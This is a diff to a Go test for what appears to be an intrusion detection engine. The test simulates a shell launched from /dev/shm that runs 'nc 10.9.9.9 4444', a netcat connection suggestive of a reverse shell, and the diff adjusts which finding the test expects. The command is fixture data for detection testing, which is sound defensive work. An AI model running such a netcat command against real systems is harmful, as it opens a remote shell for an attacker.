@@ -106,7 +106,8 @@ func TestShellFromSharedMemory(t *testing.T) {
 	login := h.process(nil, "/usr/bin/bash", "bash")
 	shell := h.process(login, "/dev/shm/sh", "/dev/shm/sh", "-c", "nc 10.9.9.9 4444")
 	findings, notes := e.Evaluate(h.exec(shell), learning)
-	if len(findings) != 1 || len(notes) != 0 || findings[0].Severity != event.High {
+	// It has a system program's name too, which is another rule's.
+	if len(findings) == 0 || findings[0].Title != "Program started from shared memory" || len(notes) != 0 || findings[0].Severity != event.High {
 		t.Fatalf("got %v, %v", findings, notes)
 	}
 	nc := h.process(shell, "/usr/bin/nc", "nc", "10.9.9.9", "4444")
